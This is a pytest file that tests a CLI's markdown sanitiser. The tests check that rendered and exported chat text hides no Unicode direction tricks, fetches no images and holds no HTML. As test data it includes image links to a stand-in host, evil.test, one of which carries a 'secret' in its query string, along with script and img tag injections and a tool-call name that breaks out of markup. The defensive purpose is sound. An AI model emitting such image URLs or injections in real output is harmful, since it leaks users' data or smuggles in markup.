"""Markdown that others wrote: what a terminal is sent of it, and what a viewer makes of it."""

from __future__ import annotations

import io

import pytest
from rich.console import Console
from rich.markdown import Markdown

from ferryman.cli.chat_markdown import write_markdown
from ferryman.cli.safe_markdown import draw_markdown, write_harmless

from .test_chat import METADATA, message


def draw(text: str) -> str:
    console = Console(file=io.StringIO(), force_terminal=True, width=80)
    console.print(draw_markdown(text))
    return console.file.getvalue()  # type: ignore[attr-defined]  # it is the one above


def list_kinds(text: str) -> set[str]:
    return {child.type for token in Markdown(text).parsed for child in (token, *(token.children or ()))}


@pytest.mark.parametrize("entity", ["&#x202e;", "&#8238;", "&#x200b;", "&#xE0041;", "&lrm;", "\u202e"])
def test_what_would_hide_or_turn_a_text_shows_also_as_an_entity(entity: str) -> None:
    assert draw(f"pay {entity}100").startswith("pay ·100")


def test_a_link_shows_where_it_leads_and_an_image_is_not_fetched() -> None:
    assert "https://evil.test/?q=1" in draw("[a bank](https://evil.test/?q=1)")
    assert "\x1b]8" not in draw("[a bank](https://evil.test/) ![x](https://evil.test/i.png)")


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.test/?q=secret)",
        "![x][1]\n\n[1]: https://evil.test/",
        "> - ![x](https://evil.test/)",
        "[![x](https://evil.test/)](https://evil.test/)",
        "| a |\n|---|\n| ![x](https://evil.test/) |",
        "so <img src=https://evil.test/> it is",
        "<script>\nalert(1)\n</script>",
        "<!-- hidden -->",
    ],
)
def test_a_file_holds_no_image_and_no_html(text: str) -> None:
    assert list_kinds(write_harmless(text)).isdisjoint({"image", "html_inline", "html_block"})
    assert not list_kinds(text).isdisjoint({"image", "html_inline", "html_block"})


def test_code_and_plain_text_stay_as_they_are() -> None:
    text = "Is 1 < 2?\n\n```html\n<img src=x> ![x](y)\n```\n\nUse `<br>` and [a link](https://a.test/).\n"
    assert write_harmless(text) == text


def test_an_exported_conversation_fetches_nothing() -> None:
    call = {"id": "tc_1", "name": "</summary><img src=x>", "arguments": {}}
    turns = [{"role": "assistant", "content": "![b](https://evil.test/)", "toolCalls": [call]}]
    answer = message(2, "assistant", "![c](https://evil.test/)", messages=turns, metadata=METADATA)
    text = write_markdown("![a](https://evil.test/)", [answer])
    assert "image" not in list_kinds(text)
    assert "<img" not in text
